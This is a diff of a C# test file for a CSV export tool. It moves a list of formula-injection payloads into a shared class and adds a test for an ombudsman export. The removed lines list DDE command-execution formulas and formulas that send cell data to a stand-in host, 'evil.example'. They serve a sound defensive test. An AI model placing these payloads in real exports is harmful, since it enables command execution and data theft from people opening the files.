@@ -12,13 +12,7 @@ public sealed class ExportsTests
 {
     private const string Dangerous = "=+-@|%\t\r\n\0＝＋－＠｜％−﹣﹢﹦﹫";
 
-    public static readonly TheoryData<string> Payloads = new(
-        "=1+1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
-        "=IMPORTDATA(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IF(1,cmd|'/C calc'!A0)", "==1", "=-1", "=@SUM(A1)", "='a'", "=\"a\"",
-        "+1+1", "+cmd|'/C calc'!A0", "+923001234567", "+=1", "+SUM(A1)", "-1+1", "-cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!D2", "--1", "-=1", "-@SUM(A1)",
-        "@SUM(1+1)*cmd|'/C calc'!A0", "@A1", "@=1", "@@", "\t=1+1", "\t+1", "\t@A1", "\tx", "\r=1+1", "\rx", "\n=1+1", "\r\n=1+1", "\0=1+1", "\0x",
-        " =1+1", "   +1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\u200e=1+1", "\u202e=1+1", "\ufeff=1+1", "\u2066@A1", "\u000b=1+1", "\u001f=1+1",
-        "＝1+1", "＋1", "－1", "＠A1", " ＝1", "|calc", "%0A=1", "'=1+1", "\"=1+1", "\"\",=1+1", "'\"=1+1", "\u2212 1", "﹦1+1", "﹢1", "﹣1", "﹫A1");
+    public static readonly TheoryData<string> Payloads = new(FormulaPayloads.All);
 
     [Theory, MemberData(nameof(Payloads))]
     public void No_cell_becomes_a_formula(string payload)
@@ -65,8 +59,22 @@ public sealed class ExportsTests
         var code = await new ExportCommand(new Exporter(data.Database)).RunAsync("all", "2026-11-01", "2026-11-02", data.Folder, output, TextWriter.Null, CancellationToken.None);
 
         Assert.Equal(0, code);
-        Assert.Equal((2501, 2, 2), (await CheckAsync(data, "facts"), await CheckAsync(data, "cases"), await CheckAsync(data, "undelivered")));
+        Assert.Equal((2501, 2, 2, 2), (await CheckAsync(data, "facts"), await CheckAsync(data, "cases"), await CheckAsync(data, "ombudsman"), await CheckAsync(data, "undelivered")));
         Assert.DoesNotContain("SAFETY", await File.ReadAllTextAsync(Path.Combine(data.Folder, "cases.csv")), StringComparison.Ordinal);
+    }
+
+    [Theory, EachEngine]
+    public async Task The_list_for_the_ombudsman_tells_how_long_a_case_is_open_and_outlives_its_row(string engine)
+    {
+        await using var data = await TestDatabase.CreateAsync(engine);
+        await FillAsync(data);
+        await data.Writer.WriteAsync(session => session.Execute("DELETE FROM cases WHERE id = $1", Id(1)), CancellationToken.None);
+
+        await new ExportCommand(new Exporter(data.Database)).RunAsync("ombudsman", "2026-11-01", "2026-11-02", data.Folder, TextWriter.Null, TextWriter.Null, CancellationToken.None);
+
+        var rows = Read(await File.ReadAllTextAsync(Path.Combine(data.Folder, "ombudsman.csv")));
+        Assert.Equal(["'=1000000", "OTHER", "", "submitted", "'+sms", "ur", "2026-11-02T23:59Z", "2026-11-02T23:59Z", "30"], rows[1].Where((_, column) => column != 6));
+        Assert.Equal(["'=1000001", "OTHER", "", "", "30"], rows[2].Where((_, column) => column is < 4 or 9));
     }
 
     [Theory]
@@ -113,6 +121,9 @@ public sealed class ExportsTests
                     INSERT INTO cases (id, reference, person, idempotency, category, status, language, channel, opened_at, updated_at, due_at)
                     VALUES ($1, $2, $1, $1, $3, 'submitted', 'ur', '+sms', $4, $4, $4)
                     """, Id(i), $"100000{i}", i == 3 ? "SAFETY" : "OTHER", i == 2 ? outside : inside);
+                session.Execute(
+                    "INSERT INTO ombudsman_cases (case_id, reference, category, opened_at, at) VALUES ($1, $2, $3, $4, $5)",
+                    Id(i), $"=100000{i}", i == 3 ? "SAFETY" : "OTHER", inside - 2_592_000_000L, i == 2 ? outside : inside);
                 session.Execute(
                     """
                     INSERT INTO messages (id, receiver, receiver_sealed, operator, short_code, class, priority, status, created_at, final_at, segments, encoding, reason)
